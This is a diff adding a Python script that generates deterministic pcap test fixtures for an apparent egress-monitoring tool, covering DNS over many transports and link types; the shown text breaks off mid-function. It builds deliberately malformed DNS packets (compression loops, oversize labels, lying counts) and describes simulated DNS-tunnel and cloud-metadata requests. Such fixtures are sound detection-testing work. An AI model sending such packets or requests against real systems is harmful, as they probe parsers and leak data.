@@ -1,0 +1,878 @@
+#!/usr/bin/python3
+"""gen_fixtures.py - write the small, deterministic pcap fixtures of pcaps/.
+
+README
+------
+    /usr/bin/python3 pcaps/gen_fixtures.py [OUTDIR]      (OUTDIR defaults to this folder)
+
+Every run writes byte-identical files: timestamps are fixed (each file starts at
+2026-11-29T10:00:00Z), DNS ids, IP ids, ports and TCP sequence numbers are fixed,
+nothing is random.  scapy (python3-scapy) builds the L2-L4 headers and checksums;
+the DNS messages are built by hand below (DnsBuilder) so that every byte, including
+the compression pointers and the deliberately broken ones, is under our control.
+The pcap and pcapng containers are written by hand too (write_pcap, write_pcapng),
+so a scapy upgrade cannot change the files' framing.
+
+Only documentation/test addresses appear: 10.99.0.0/24, 192.0.2.0/24,
+198.51.100.0/24, 2001:db8::/32, fd00:99::/64 and 169.254.169.254.
+Names are under .test, example.com/.net/.org.
+
+Files (all Ethernet unless stated):
+  dns_basic.pcap     UDP DNS over IPv4: A (EDNS DO in query and answer), AAAA, CNAME
+                     chain, MX, TXT with several strings, NS, PTR, SRV, NXDOMAIN with SOA
+                     in authority, NULL, CAA, HTTPS, TYPE65280, and a query whose name
+                     holds a dot, a space, a backslash and bytes 0xff/0x00 in labels.
+  dns_basic.pcapng   the first 8 packets of dns_basic.pcap in pcapng (SHB, IDB, EPB).
+  dns_tcp.pcap       DNS over TCP: handshake, two queries in one segment, a response
+                     split over 3 segments (the first carries 1 byte of the length
+                     prefix), a response whose 2 segments arrive out of order, a
+                     retransmitted segment, FIN exchange.
+  dns_malformed.pcap compression loops (self and mutual), a forward pointer, a 64-byte
+                     label (and a legal 63-byte one), a name over 255 bytes, counts that
+                     lie, an A record with rdlength 5, a message cut mid-record, a
+                     7-byte "message", a packet cut by the snaplen (caplen < len), garbage
+                     on port 53, then one good query/response.
+  link_vlan.pcap     802.1Q (VLAN 100) and QinQ (802.1ad 200 + 802.1Q 100) DNS pairs.
+  link_sll.pcap      Linux cooked capture v1 (linktype 113).
+  link_sll2.pcap     Linux cooked capture v2 (linktype 276).
+  link_raw.pcap      raw IP (linktype 101, DLT_RAW): one IPv4 and one IPv6 pair.
+  link_null.pcap     BSD loopback (linktype 0): AF_INET 2, AF_INET6 as 24 (Net/OpenBSD),
+                     28 (FreeBSD) and 30 (Darwin), little-endian family field.
+  dns_ipv6.pcap      DNS over IPv6: a query behind a Hop-by-Hop header, the answer behind
+                     Hop-by-Hop + Destination Options, and a pair with no extension header.
+  ip_frag.pcap       a 600-byte TXT response fragmented in IPv4 in order, in reverse
+                     order, and with overlapping fragments (identical bytes in the
+                     overlap, so first- and last-wins policies agree); and one IPv6
+                     fragmented response.  Each is preceded by its query.
+  ether_padding.pcap a 59-byte frame padded to 60 with 0xaa, the same query in a 64-byte
+                     frame (padding + a 4-byte trailer), and a response whose IP payload
+                     carries 16 bytes after the UDP datagram (UDP length < IP length).
+  demo.pcap          a sandbox capture for `./dev demo`: agent 10.99.0.10, resolver
+                     10.99.0.53; ordinary A/AAAA lookups, a burst of base32 tunnel
+                     queries (TXT/NULL) under t.example-tunnel.test, an HTTP GET of
+                     http://169.254.169.254/latest/meta-data/, a TLS ClientHello with SNI
+                     api.example.com to 192.0.2.80, and three pings to 198.51.100.1.
+"""
+import base64
+import calendar
+import hashlib
+import os
+import struct
+import sys
+
+import logging
+logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
+from scapy.layers.l2 import Ether, Dot1Q, Dot1AD, CookedLinux, CookedLinuxV2  # noqa: E402
+from scapy.layers.inet import IP, UDP, TCP, ICMP  # noqa: E402
+from scapy.layers.inet6 import (IPv6, IPv6ExtHdrHopByHop, IPv6ExtHdrDestOpt,  # noqa: E402
+                                IPv6ExtHdrFragment, PadN)
+from scapy.packet import Raw  # noqa: E402
+
+BASE_US = calendar.timegm((2026, 11, 29, 10, 0, 0)) * 1000000
+
+LINKTYPE_NULL = 0
+LINKTYPE_ETHERNET = 1
+LINKTYPE_RAW = 101
+LINKTYPE_LINUX_SLL = 113
+LINKTYPE_LINUX_SLL2 = 276
+
+MAC_CLIENT = "02:00:00:99:00:0a"
+MAC_DNS = "02:00:00:99:00:35"
+MAC_GW = "02:00:00:99:00:01"
+CLIENT4, DNS4 = "10.99.0.10", "10.99.0.53"
+CLIENT6, DNS6 = "fd00:99::10", "fd00:99::53"
+
+# ---------------------------------------------------------------- containers
+
+
+def write_pcap(path, linktype, recs, snaplen=65535):
+    """recs: list of (ts_us, data) or (ts_us, data, origlen). Little-endian, usec."""
+    out = [struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, snaplen, linktype)]
+    for r in recs:
+        ts, data = r[0], r[1]
+        orig = r[2] if len(r) > 2 else len(data)
+        out.append(struct.pack("<IIII", ts // 1000000, ts % 1000000, len(data), orig))
+        out.append(data)
+    with open(path, "wb") as f:
+        f.write(b"".join(out))
+
+
+def _opt(code, val):
+    pad = (4 - len(val) % 4) % 4
+    return struct.pack("<HH", code, len(val)) + val + b"\0" * pad
+
+
+def _block(btype, body):
+    ln = 12 + len(body)
+    return struct.pack("<II", btype, ln) + body + struct.pack("<I", ln)
+
+
+def write_pcapng(path, linktype, recs, snaplen=65535):
+    """Minimal pcapng: one SHB (with shb_userappl), one IDB (if_name, if_tsresol=6),
+    one EPB per record."""
+    shb = struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, -1)
+    shb += _opt(4, b"egresswatch pcaps/gen_fixtures.py") + _opt(0, b"")
+    idb = struct.pack("<HHI", linktype, 0, snaplen)
+    idb += _opt(2, b"veth-sandbox") + _opt(9, b"\x06") + _opt(0, b"")
+    out = [_block(0x0A0D0D0A, shb), _block(1, idb)]
+    for r in recs:
+        ts, data = r[0], r[1]
+        orig = r[2] if len(r) > 2 else len(data)
+        body = struct.pack("<IIIII", 0, ts >> 32, ts & 0xFFFFFFFF, len(data), orig)
+        body += data + b"\0" * ((4 - len(data) % 4) % 4) + _opt(0, b"")
+        out.append(_block(6, body))
+    with open(path, "wb") as f:
+        f.write(b"".join(out))
+
+
+class Clock:
+    """Packet timestamps in microseconds since the epoch, from BASE_US."""
+
+    def __init__(self, start_us=BASE_US):
+        self.t = start_us
+        self.first = True
+
+    def __call__(self, step_us=0):
+        """The first call returns the start time, later ones advance by step_us."""
+        if self.first:
+            self.first = False
+        else:
+            self.t += step_us
+        return self.t
+
+# ---------------------------------------------------------------- DNS builder
+
+TYPES = {"A": 1, "NS": 2, "CNAME": 5, "SOA": 6, "PTR": 12, "MX": 15, "TXT": 16,
+         "AAAA": 28, "SRV": 33, "OPT": 41, "NULL": 10, "HTTPS": 65, "CAA": 257}
+
+
+def labels_of(name):
+    """'a.b.c' -> [b'a', b'b', b'c']; a list of bytes is taken as labels; '.' -> []."""
+    if isinstance(name, (list, tuple)):
+        return [bytes(x) for x in name]
+    if name in (".", ""):
+        return []
+    return [x.encode("ascii") for x in name.rstrip(".").split(".")]
+
+
+class N:
+    """A name inside rdata; compress=False for types that must not compress (SRV)."""
+
+    def __init__(self, name, compress=True):
+        self.name, self.compress = name, compress
+
+
+def rd_a(s):
+    return [bytes(int(x) for x in s.split("."))]
+
+
+def rd_aaaa(s):
+    import ipaddress
+    return [ipaddress.IPv6Address(s).packed]
+
+
+def rd_name(n):
+    return [N(n)]
+
+
+def rd_mx(pref, n):
+    return [struct.pack("!H", pref), N(n)]
+
+
+def rd_soa(mname, rname, serial, refresh, retry, expire, minimum):
+    return [N(mname), N(rname), struct.pack("!IIIII", serial, refresh, retry, expire, minimum)]
+
+
+def rd_srv(prio, weight, port, target):
+    return [struct.pack("!HHH", prio, weight, port), N(target, compress=False)]
+
+
+def rd_txt(strings):
+    out = b""
+    for s in strings:
+        b = s if isinstance(s, bytes) else s.encode()
+        out += bytes([len(b)]) + b
+    return [out]
+
+
+def rd_caa(flags, tag, value):
+    return [bytes([flags, len(tag)]) + tag.encode() + value.encode()]
+
+
+def rd_svcb(prio, target, params):
+    out = [struct.pack("!H", prio), N(target, compress=False)]
+    for key, val in params:
+        out.append(struct.pack("!HH", key, len(val)) + val)
+    return out
+
+
+def rr(name, rtype, ttl, rdata, rclass=1):
+    return (name, TYPES.get(rtype, rtype) if isinstance(rtype, str) else rtype, rclass, ttl, rdata)
+
+
+def opt_rr(udp_size=1232, do=False, version=0, ext_rcode=0, options=b""):
+    ttl = (ext_rcode << 24) | (version << 16) | (0x8000 if do else 0)
+    return (".", 41, udp_size, ttl, [options])
+
+
+class DnsBuilder:
+    def __init__(self, compress=True):
+        self.buf = bytearray(12)
+        self.names = {}
+        self.compress = compress
+
+    def name(self, name, compress=True):
+        labels = labels_of(name)
+        for i in range(len(labels)):
+            suffix = tuple(x.lower() for x in labels[i:])
+            if self.compress and compress and suffix in self.names:
+                self.buf += struct.pack("!H", 0xC000 | self.names[suffix])
+                return
+            if len(self.buf) < 0x3FFF and suffix not in self.names:
+                self.names[suffix] = len(self.buf)
+            self.buf += bytes([len(labels[i])]) + labels[i]
+        self.buf += b"\0"
+
+    def rdata(self, parts):
+        lenpos = len(self.buf)
+        self.buf += b"\0\0"
+        for p in parts:
+            if isinstance(p, N):
+                self.name(p.name, p.compress)
+            else:
+                self.buf += p
+        struct.pack_into("!H", self.buf, lenpos, len(self.buf) - lenpos - 2)
+
+
+def dns_msg(id, qr=False, opcode=0, aa=False, tc=False, rd=True, ra=None, ad=False, cd=False,
+            rcode=0, qd=(), an=(), ns=(), ar=(), counts=None, compress=True):
+    """Build a DNS message. qd: [(name, type)], RRs from rr()/opt_rr().
+    counts=(qd, an, ns, ar) overrides the header counts (to make them lie)."""
+    if ra is None:
+        ra = qr
+    b = DnsBuilder(compress)
+    for name, t in qd:
+        b.name(name)
+        b.buf += struct.pack("!HH", TYPES.get(t, t) if isinstance(t, str) else t, 1)
+    for sec in (an, ns, ar):
+        for name, t, cls, ttl, rdata in sec:
+            b.name(name)
+            b.buf += struct.pack("!HHI", t, cls, ttl)
+            b.rdata(rdata)
+    flags = ((qr << 15) | (opcode << 11) | (aa << 10) | (tc << 9) | (rd << 8) | (ra << 7)
+             | (ad << 5) | (cd << 4) | (rcode & 0xF))
+    c = counts or (len(qd), len(an), len(ns), len(ar))
+    struct.pack_into("!HHHHHH", b.buf, 0, id, flags, *c)
+    return bytes(b.buf)
+
+
+def exchange(id, qname, qtype, an=(), ns=(), ar=(), rcode=0, q_ar=(), aa=False):
+    """A query and its response (same question)."""
+    q = dns_msg(id, qd=[(qname, qtype)], ar=q_ar)
+    r = dns_msg(id, qr=True, aa=aa, rcode=rcode, qd=[(qname, qtype)], an=an, ns=ns, ar=ar)
+    return q, r
+
+# ---------------------------------------------------------------- L2-L4 helpers
+
+
+def ether(src, dst, payload):
+    return bytes(Ether(src=src, dst=dst) / payload)
+
+
+def ip4_udp(src, dst, sport, dport, data, ipid=1):
+    return IP(src=src, dst=dst, id=ipid, ttl=64, flags="DF") / UDP(sport=sport, dport=dport) / Raw(data)
+
+
+def ip6_udp(src, dst, sport, dport, data, ext=None):
+    p = IPv6(src=src, dst=dst, hlim=64)
+    if ext is not None:
+        p = p / ext
+    return p / UDP(sport=sport, dport=dport) / Raw(data)
+
+
+class UdpPair:
+    """Client/server DNS over UDP/IPv4 on Ethernet with fixed IP ids."""
+
+    def __init__(self, clock, client=CLIENT4, server=DNS4, ipid=0x100):
+        self.clock, self.client, self.server, self.ipid = clock, client, server, ipid
+
+    def ip_q(self, sport, data):
+        self.ipid += 1
+        return ip4_udp(self.client, self.server, sport, 53, data, self.ipid)
+
+    def ip_r(self, sport, data):
+        self.ipid += 1
+        return ip4_udp(self.server, self.client, 53, sport, data, self.ipid)
+
+    def q(self, sport, data, step=250000):
+        return (self.clock(step), ether(MAC_CLIENT, MAC_DNS, self.ip_q(sport, data)))
+
+    def r(self, sport, data, step=1500):
+        return (self.clock(step), ether(MAC_DNS, MAC_CLIENT, self.ip_r(sport, data)))
+
+    def pair(self, sport, qr):
+        return [self.q(sport, qr[0]), self.r(sport, qr[1])]
+
+# ---------------------------------------------------------------- dns_basic
+
+
+def basic_exchanges():
+    T = "example.test"
+    edns_q = [opt_rr(1232, do=True)]
+    edns_r = [opt_rr(1232, do=True)]
+    soa = rr(T, "SOA", 3600, rd_soa("ns1." + T, "hostmaster." + T, 2026112901, 7200, 900,
+                                        1209600, 300))
+    weird = [b"we.ird", b"sp ace", b"\xff\x00", b"back\\slash", b"example", b"test"]
+    return [
+        exchange(0x1001, "www." + T, "A", an=[rr("www." + T, "A", 300, rd_a("192.0.2.1"))],
+                 ar=edns_r, q_ar=edns_q),
+        exchange(0x1002, "www." + T, "AAAA",
+                 an=[rr("www." + T, "AAAA", 300, rd_aaaa("2001:db8::1"))]),
+        exchange(0x1003, "cdn." + T, "A",
+                 an=[rr("cdn." + T, "CNAME", 60, rd_name("edge." + T)),
+                     rr("edge." + T, "CNAME", 60, rd_name("edge-1.example.net")),
+                     rr("edge-1.example.net", "A", 20, rd_a("198.51.100.7")),
+                     rr("edge-1.example.net", "A", 20, rd_a("198.51.100.8"))]),
+        exchange(0x1004, T, "MX", an=[rr(T, "MX", 3600, rd_mx(10, "mail." + T)),
+                                      rr(T, "MX", 3600, rd_mx(20, "mail2.example.net"))]),
+        exchange(0x1005, "txt." + T, "TXT",
+                 an=[rr("txt." + T, "TXT", 120, rd_txt(["v=spf1 -all", "hello world",
+                                                        "quote\" semi;", ""])),
+                     rr("txt." + T, "TXT", 120, rd_txt(["second record"]))]),
+        exchange(0x1006, T, "NS", an=[rr(T, "NS", 86400, rd_name("ns1." + T)),
+                                      rr(T, "NS", 86400, rd_name("ns2.example.net"))],
+                 ar=[rr("ns1." + T, "A", 86400, rd_a("192.0.2.53")),
+                     rr("ns1." + T, "AAAA", 86400, rd_aaaa("2001:db8::53"))]),
+        exchange(0x1007, "1.2.0.192.in-addr.arpa", "PTR",
+                 an=[rr("1.2.0.192.in-addr.arpa", "PTR", 3600, rd_name("www." + T))]),
+        exchange(0x1008, "_sip._udp." + T, "SRV",
+                 an=[rr("_sip._udp." + T, "SRV", 600, rd_srv(10, 60, 5060, "sip." + T)),
+                     rr("_sip._udp." + T, "SRV", 600, rd_srv(20, 0, 5060, "sip2." + T))]),
+        exchange(0x1009, "nope." + T, "A", rcode=3, aa=True, ns=[soa]),
+        exchange(0x100A, "null." + T, "NULL",
+                 an=[rr("null." + T, "NULL", 0, [b"\x00\x01\x02hello\xff"])]),
+        exchange(0x100B, T, "CAA", an=[rr(T, "CAA", 3600, rd_caa(0, "issue", "ca.example.net")),
+                                       rr(T, "CAA", 3600, rd_caa(128, "iodef",
+                                                                 "mailto:sec@example.test"))]),
+        exchange(0x100C, T, "HTTPS",
+                 an=[rr(T, "HTTPS", 300, rd_svcb(1, ".", [(1, b"\x02h2\x08http/1.1"),
+                                                          (4, bytes([192, 0, 2, 1]))]))]),
+        exchange(0x100D, "private." + T, 65280,
+                 an=[rr("private." + T, 65280, 60, [b"\xde\xad\xbe\xef"])]),
+        exchange(0x100E, weird, "A", rcode=3, ns=[soa]),
+    ]
+
+
+def gen_dns_basic(out):
+    clk = Clock()
+    u = UdpPair(clk)
+    recs = []
+    for i, qr in enumerate(basic_exchanges()):
+        recs += u.pair(33000 + i, qr)
+    write_pcap(os.path.join(out, "dns_basic.pcap"), LINKTYPE_ETHERNET, recs)
+    write_pcapng(os.path.join(out, "dns_basic.pcapng"), LINKTYPE_ETHERNET, recs[:8])
+
+# ---------------------------------------------------------------- dns_tcp
+
+
+class TcpConn:
+    def __init__(self, clock, cli, srv, sport, dport, cisn, sisn, ipid=0x200,
+                 cmac=MAC_CLIENT, smac=MAC_DNS):
+        self.clock, self.cli, self.srv, self.sport, self.dport = clock, cli, srv, sport, dport
+        self.cseq, self.sseq = cisn, sisn
+        self.ipid = ipid
+        self.cmac, self.smac = cmac, smac
+
+    def _pkt(self, from_client, flags, seq, ack, data=b"", step=1000):
+        self.ipid += 1
+        if from_client:
+            ip = IP(src=self.cli, dst=self.srv, id=self.ipid, ttl=64, flags="DF")
+            t = TCP(sport=self.sport, dport=self.dport, seq=seq, ack=ack, flags=flags, window=64240)
+            mac = (self.cmac, self.smac)
+        else:
+            ip = IP(src=self.srv, dst=self.cli, id=self.ipid, ttl=64, flags="DF")
+            t = TCP(sport=self.dport, dport=self.sport, seq=seq, ack=ack, flags=flags, window=65160)
+            mac = (self.smac, self.cmac)
+        p = ip / t
+        if data:
+            p = p / Raw(data)
+        return (self.clock(step), ether(mac[0], mac[1], p))
+
+    def handshake(self, step=100000):
+        a = self._pkt(True, "S", self.cseq, 0, step=step)
+        self.cseq += 1
+        b = self._pkt(False, "SA", self.sseq, self.cseq, step=400)
+        self.sseq += 1
+        c = self._pkt(True, "A", self.cseq, self.sseq, step=100)
+        return [a, b, c]
+
+    def c_send(self, data, step=1000, advance=True, seq=None):
+        p = self._pkt(True, "PA", self.cseq if seq is None else seq, self.sseq, data, step)
+        if advance:
+            self.cseq += len(data)
+        return p
+
+    def s_send(self, data, step=1000, advance=True, seq=None):
+        p = self._pkt(False, "PA", self.sseq if seq is None else seq, self.cseq, data, step)
+        if advance:
+            self.sseq += len(data)
+        return p
+
+    def c_ack(self, step=200):
+        return self._pkt(True, "A", self.cseq, self.sseq, step=step)
+
+    def s_ack(self, step=200):
+        return self._pkt(False, "A", self.sseq, self.cseq, step=step)
+
+    def close(self):
+        a = self._pkt(True, "FA", self.cseq, self.sseq, step=5000)
+        self.cseq += 1
+        b = self._pkt(False, "FA", self.sseq, self.cseq, step=300)
+        self.sseq += 1
+        c = self._pkt(True, "A", self.cseq, self.sseq, step=100)
+        return [a, b, c]
+
+
+def lp(msg):
+    return struct.pack("!H", len(msg)) + msg
+
+
+def gen_dns_tcp(out):
+    clk = Clock()
+    T = "tcp.example.test"
+    q1, r1 = exchange(0x2001, "a." + T, "A",
+                      an=[rr("a." + T, "A", 300, rd_a("192.0.2.11"))])
+    q2, r2 = exchange(0x2002, "txt." + T, "TXT",
+                      an=[rr("txt." + T, "TXT", 300, rd_txt(["over tcp " + "x" * 60,
+                                                             "second string"]))])
+    c = TcpConn(clk, CLIENT4, DNS4, 40001, 53, 1000, 5000)
+    recs = c.handshake()
+    recs.append(c.c_send(lp(q1) + lp(q2)))          # two messages in one segment
+    recs.append(c.s_ack())
+    m1 = lp(r1)                                       # one message in 3 segments
+    recs.append(c.s_send(m1[:1], step=800))           # half of the length prefix
+    recs.append(c.s_send(m1[1:21], step=300))
+    recs.append(c.s_send(m1[21:], step=300))
+    recs.append(c.c_ack())
+    m2 = lp(r2)                                       # out of order, then a retransmission
+    base = c.sseq
+    cut = 40
+    recs.append(c.s_send(m2[cut:], seq=base + cut, advance=False, step=900))
+    recs.append(c.s_send(m2[:cut], seq=base, advance=False, step=300))
+    c.sseq = base + len(m2)
+    recs.append(c.s_send(m2[:cut], seq=base, advance=False, step=200000))  # retransmitted
+    recs.append(c.c_ack())
+    recs += c.close()
+    write_pcap(os.path.join(out, "dns_tcp.pcap"), LINKTYPE_ETHERNET, recs)
+
+# ---------------------------------------------------------------- dns_malformed
+
+
+def gen_dns_malformed(out):
+    clk = Clock()
+    u = UdpPair(clk, ipid=0x300)
+    M = "bad.example.test"
+    recs = []
+    hdr = lambda id, flags, qd, an, ns, ar: struct.pack("!HHHHHH", id, flags, qd, an, ns, ar)
+    qsec = lambda name, t=1: DnsBuilder_name(name) + struct.pack("!HH", t, 1)
+    RESP = 0x8180
+
+    # 1. compression loop: the answer's owner name is a pointer to itself.
+    q = qsec("loop." + M)
+    body = hdr(0x3001, RESP, 1, 1, 0, 0) + q
+    off = len(body)
+    body += struct.pack("!H", 0xC000 | off) + struct.pack("!HHIH", 1, 1, 60, 4) + bytes([192, 0, 2, 1])
+    recs += [u.q(34001, dns_msg(0x3001, qd=[("loop." + M, "A")])), u.r(34001, body)]
+
+    # 2. mutual loop inside CNAME rdata: two pointers at each other.
+    body = hdr(0x3002, RESP, 1, 1, 0, 0) + qsec("loop2." + M, 5)
+    body += b"\xc0\x0c" + struct.pack("!HHI", 5, 1, 60)
+    rd_off = len(body) + 2
+    body += struct.pack("!H", 4) + struct.pack("!HH", 0xC000 | (rd_off + 2), 0xC000 | rd_off)
+    recs += [u.q(34002, dns_msg(0x3002, qd=[("loop2." + M, "CNAME")])), u.r(34002, body)]
+
+    # 3. forward pointer: CNAME target points to a name that comes later (in a 2nd answer).
+    body = hdr(0x3003, RESP, 1, 2, 0, 0) + qsec("fwd." + M)
+    body += b"\xc0\x0c" + struct.pack("!HHI", 5, 1, 60)
+    rd_at = len(body)
+    body += struct.pack("!H", 2) + b"\0\0"            # placeholder pointer
+    target_at = len(body)
+    body += b"\x06target" + b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + bytes([192, 0, 2, 2])
+    body = bytearray(body)
+    struct.pack_into("!H", body, rd_at + 2, 0xC000 | target_at)
+    recs += [u.q(34003, dns_msg(0x3003, qd=[("fwd." + M, "A")])), u.r(34003, bytes(body))]
+
+    # 4. a legal 63-byte label, then a 64-byte label (length byte 0x40 = extended label type).
+    l63 = [b"a" * 63, b"example", b"test"]
+    recs += u.pair(34004, exchange(0x3004, l63, "A", rcode=3))
+    body = hdr(0x3005, 0x0100, 1, 0, 0, 0) + bytes([64]) + b"b" * 64 + b"\x07example\x04test\x00"
+    body += struct.pack("!HH", 1, 1)
+    recs.append(u.q(34005, body))
+
+    # 5. a name over 255 bytes: five 63-byte labels (321 bytes on the wire).
+    big = [bytes([0x61 + i]) * 63 for i in range(5)]
+    recs.append(u.q(34006, dns_msg(0x3006, qd=[(big, "A")])))
+
+    # 6. counts that lie: ancount 3, one answer present; arcount 2, none present.
+    r = dns_msg(0x3007, qr=True, qd=[("lie." + M, "A")],
+                an=[rr("lie." + M, "A", 60, rd_a("192.0.2.7"))], counts=(1, 3, 0, 2))
+    recs += [u.q(34007, dns_msg(0x3007, qd=[("lie." + M, "A")])), u.r(34007, r)]
+
+    # 7. an A record with rdlength 5.
+    body = hdr(0x3008, RESP, 1, 1, 0, 0) + qsec("rdlen." + M)
+    body += b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 5) + bytes([192, 0, 2, 8, 9])
+    recs += [u.q(34008, dns_msg(0x3008, qd=[("rdlen." + M, "A")])), u.r(34008, body)]
+
+    # 8. a message cut in the middle of its second answer (UDP/IP lengths agree with the cut).
+    _, full = exchange(0x3009, "cut." + M, "A", an=[rr("cut." + M, "A", 60, rd_a("192.0.2.9")),
+                                                    rr("cut." + M, "A", 60, rd_a("192.0.2.10"))])
+    recs += [u.q(34009, dns_msg(0x3009, qd=[("cut." + M, "A")])), u.r(34009, full[:len(full) - 9])]
+
+    # 9. a 7-byte "message" (shorter than the header).
+    recs.append(u.q(34010, b"\x30\x0a\x01\x00\x00\x01\x00"))
+
+    # 10. snaplen cut: the record holds 80 of the frame's bytes (caplen < len).
+    _, full = exchange(0x300B, "snap." + M, "TXT",
+                       an=[rr("snap." + M, "TXT", 60, rd_txt(["s" * 100]))])
+    recs.append(u.q(34011, dns_msg(0x300B, qd=[("snap." + M, "TXT")])))
+    ts, frame = u.r(34011, full)
+    recs.append((ts, frame[:80], len(frame)))
+
+    # 11. garbage on port 53 (fixed pseudo-random bytes).
+    junk = hashlib.sha256(b"egresswatch garbage").digest() + hashlib.sha256(b"2").digest()[:12]
+    recs.append(u.q(34012, junk))
+
+    # 12. a good query and response after all that.
+    recs += u.pair(34013, exchange(0x300D, "good." + M, "A",
+                                   an=[rr("good." + M, "A", 60, rd_a("192.0.2.13"))]))
+    write_pcap(os.path.join(out, "dns_malformed.pcap"), LINKTYPE_ETHERNET, recs)
+
+
+def DnsBuilder_name(name):
+    b = DnsBuilder(compress=False)
+    b.buf = bytearray()
+    b.name(name)
+    return bytes(b.buf)
+
+# ---------------------------------------------------------------- link types
+
+
+def link_pair(id, label, addr="192.0.2.%d"):
+    name = label + ".link.example.test"
+    return exchange(id, name, "A", an=[rr(name, "A", 60, rd_a(addr % (id & 0xFF)))])
+
+
+def gen_links(out):
+    # 802.1Q and QinQ
+    clk = Clock()
+    recs = []
+    for id, label, tags, sport in ((0x4001, "vlan", [Dot1Q(vlan=100, prio=0)], 35001),
+                                   (0x4002, "qinq", [Dot1AD(vlan=200), Dot1Q(vlan=100)], 35002)):
+        q, r = link_pair(id, label)
+        for data, src, dst, mac, sp, dp, ipid in ((q, CLIENT4, DNS4, (MAC_CLIENT, MAC_DNS), sport, 53, id),
+                                                  (r, DNS4, CLIENT4, (MAC_DNS, MAC_CLIENT), 53, sport, id + 0x100)):
+            l2 = Ether(src=mac[0], dst=mac[1])
+            for t in tags:
+                l2 = l2 / t.copy()
+            recs.append((clk(250000), bytes(l2 / ip4_udp(src, dst, sp, dp, data, ipid))))
+    write_pcap(os.path.join(out, "link_vlan.pcap"), LINKTYPE_ETHERNET, recs)
+
+    # Linux cooked v1 (outgoing query pkttype 4, incoming response pkttype 0)
+    clk = Clock()
+    q, r = link_pair(0x4003, "sll")
+    recs = [(clk(250000), bytes(CookedLinux(pkttype=4, lladdrtype=1, lladdrlen=6,
+                                            src=bytes.fromhex("02000099000a0000"), proto=0x0800)
+                                / ip4_udp(CLIENT4, DNS4, 35003, 53, q, 0x4003))),
+            (clk(1500), bytes(CookedLinux(pkttype=0, lladdrtype=1, lladdrlen=6,
+                                          src=bytes.fromhex("0200009900350000"), proto=0x0800)
+                              / ip4_udp(DNS4, CLIENT4, 53, 35003, r, 0x4103)))]
+    q6, r6 = link_pair(0x4013, "sll6")
+    recs += [(clk(250000), bytes(CookedLinux(pkttype=4, lladdrtype=1, lladdrlen=6,
+                                             src=bytes.fromhex("02000099000a0000"), proto=0x86DD)
+                                 / ip6_udp(CLIENT6, DNS6, 35013, 53, q6))),
+             (clk(1500), bytes(CookedLinux(pkttype=0, lladdrtype=1, lladdrlen=6,
+                                           src=bytes.fromhex("0200009900350000"), proto=0x86DD)
+                               / ip6_udp(DNS6, CLIENT6, 53, 35013, r6)))]
+    write_pcap(os.path.join(out, "link_sll.pcap"), LINKTYPE_LINUX_SLL, recs)
+
+    # Linux cooked v2
+    clk = Clock()
+    q, r = link_pair(0x4004, "sll2")
+    recs = [(clk(250000), bytes(CookedLinuxV2(proto=0x0800, ifindex=7, lladdrtype=1, pkttype=4,
+                                              lladdrlen=6, src=bytes.fromhex("02000099000a0000"))
+                                / ip4_udp(CLIENT4, DNS4, 35004, 53, q, 0x4004))),
+            (clk(1500), bytes(CookedLinuxV2(proto=0x0800, ifindex=7, lladdrtype=1, pkttype=0,
+                                            lladdrlen=6, src=bytes.fromhex("0200009900350000"))
+                              / ip4_udp(DNS4, CLIENT4, 53, 35004, r, 0x4104)))]
+    write_pcap(os.path.join(out, "link_sll2.pcap"), LINKTYPE_LINUX_SLL2, recs)
+
+    # raw IP, v4 and v6
+    clk = Clock()
+    q, r = link_pair(0x4005, "raw4")
+    q6, r6 = link_pair(0x4006, "raw6")
+    recs = [(clk(250000), bytes(ip4_udp(CLIENT4, DNS4, 35005, 53, q, 0x4005))),
+            (clk(1500), bytes(ip4_udp(DNS4, CLIENT4, 53, 35005, r, 0x4105))),
+            (clk(250000), bytes(ip6_udp(CLIENT6, DNS6, 35006, 53, q6))),
+            (clk(1500), bytes(ip6_udp(DNS6, CLIENT6, 53, 35006, r6)))]
+    write_pcap(os.path.join(out, "link_raw.pcap"), LINKTYPE_RAW, recs)
+
+    # BSD loopback / NULL: family in the writer's (little-endian) byte order
+    clk = Clock()
+    recs = []
+    q, r = link_pair(0x4007, "null4")
+    recs += [(clk(250000), struct.pack("<I", 2) + bytes(ip4_udp(CLIENT4, DNS4, 35007, 53, q, 0x4007))),
+             (clk(1500), struct.pack("<I", 2) + bytes(ip4_udp(DNS4, CLIENT4, 53, 35007, r, 0x4107)))]
+    for fam, id, sport in ((24, 0x4008, 35008), (28, 0x4009, 35009), (30, 0x400A, 35010)):
+        q, r = link_pair(id, "null6-af%d" % fam)
+        recs += [(clk(250000), struct.pack("<I", fam) + bytes(ip6_udp(CLIENT6, DNS6, sport, 53, q))),
+                 (clk(1500), struct.pack("<I", fam) + bytes(ip6_udp(DNS6, CLIENT6, 53, sport, r)))]
+    write_pcap(os.path.join(out, "link_null.pcap"), LINKTYPE_NULL, recs)
+
+# ---------------------------------------------------------------- IPv6
+
+
+def gen_dns_ipv6(out):
+    clk = Clock()
+    T = "v6.example.test"
+    q, r = exchange(0x5001, T, "AAAA", an=[rr(T, "AAAA", 300, rd_aaaa("2001:db8::6"))])
+    hbh = IPv6ExtHdrHopByHop(options=[PadN(optdata=b"\0\0\0\0")])
+    recs = [(clk(250000), ether(MAC_CLIENT, MAC_DNS, ip6_udp(CLIENT6, DNS6, 36001, 53, q, hbh))),
+            (clk(1500), ether(MAC_DNS, MAC_CLIENT,
+                              ip6_udp(DNS6, CLIENT6, 53, 36001, r,
+                                      IPv6ExtHdrHopByHop(options=[PadN(optdata=b"\0\0\0\0")])
+                                      / IPv6ExtHdrDestOpt(options=[PadN(optdata=b"\0\0\0\0")]))))]
+    q, r = exchange(0x5002, "plain." + T, "A", an=[rr("plain." + T, "A", 300, rd_a("192.0.2.6"))])
+    recs += [(clk(250000), ether(MAC_CLIENT, MAC_DNS, ip6_udp(CLIENT6, DNS6, 36002, 53, q))),
+             (clk(1500), ether(MAC_DNS, MAC_CLIENT, ip6_udp(DNS6, CLIENT6, 53, 36002, r)))]
+    write_pcap(os.path.join(out, "dns_ipv6.pcap"), LINKTYPE_ETHERNET, recs)
+
+# ---------------------------------------------------------------- fragments
+
+
+def big_txt(id, name):
+    chunks = [("%s-%02d-" % (name.split(".")[0], i)) + "f" * 90 for i in range(6)]
